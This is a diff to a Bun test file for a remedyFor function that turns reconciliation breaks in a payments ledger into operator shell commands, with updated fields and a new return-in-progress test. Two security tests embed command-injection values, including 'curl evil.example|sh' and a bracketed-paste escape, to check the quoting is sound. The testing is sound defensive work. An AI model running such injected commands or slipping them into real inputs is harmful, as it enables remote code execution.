@@ -1,6 +1,7 @@
 import { expect, test } from 'bun:test'
 import { $ } from 'bun'
 import { rules } from '#infra/operations/books/rules/catalogue'
+import { returnInProgress } from '#infra/operations/books/rules/rule'
 import { remedyFor, shellWord } from './remedy'
 
 const payment = `pay_${'a'.repeat(22)}`
@@ -21,18 +22,26 @@ test.each([
   ['treasury_books', 'treasury', 5n, 'reconcile --whole'],
   ['provider_balance', 'provider_id', 5n, 'reconcile explain 7 --owner <who> --reason <why> --until <day>'],
 ] as const)('a break of %s, of %s by %p, is for `ops %4$s`', (rule, item, amount, command) => {
-  expect(remedyFor({ id: '7', rule, item, amount })).toBe(`bun run ops ${command}`)
+  expect(remedyFor({ id: '7', rule, item, amount, about: '' })).toBe(`bun run ops ${command}`)
 })
+
+test.each(['treasury_moved', 'suspense'])(
+  'a break of %s whose return is in progress is traced, not returned again',
+  (rule) => {
+    const one = { id: '7', rule, item: transfer, amount: 5n, about: `5 has no known owner${returnInProgress}` }
+    expect(remedyFor(one)).toBe(`bun run ops trace ${transfer}`)
+  },
+)
 
 test('every rule has a command, whatever its item', () => {
   for (const { name } of rules)
     for (const item of [payment, cashout, transfer, 'treasury', 'lane:0x1'])
-      expect(remedyFor({ id: '7', rule: name, item, amount: 1n })).toMatch(/^bun run ops [a-z-]+/)
+      expect(remedyFor({ id: '7', rule: name, item, amount: 1n, about: '' })).toMatch(/^bun run ops [a-z-]+/)
 })
 
 test('security: text from outside is one word of the command, whatever it contains', () => {
   const item = "invoice.paid;curl evil.example|sh;'$(id)'"
-  const command = remedyFor({ id: '7', rule: 'provider_unknown', item, amount: 5n })
+  const command = remedyFor({ id: '7', rule: 'provider_unknown', item, amount: 5n, about: '' })
   expect(command).toBe(
     `bun run ops unexplained accept 'invoice.paid;curl evil.example|sh;'\\''$(id)'\\''' --reason <why>`,
   )
@@ -62,7 +71,7 @@ test.each([
 
 test('security: a command for an item with the end of a pasted text has only printable characters', () => {
   const item = 'invoice\u001b[201~\u0003curl evil.example|sh\n'
-  const command = remedyFor({ id: '7', rule: 'provider_unknown', item, amount: 1n })
+  const command = remedyFor({ id: '7', rule: 'provider_unknown', item, amount: 1n, about: '' })
   expect(command).toStartWith('bun run ops unexplained accept "$(printf ')
   expect(command).not.toMatch(/\p{C}/u)
 })
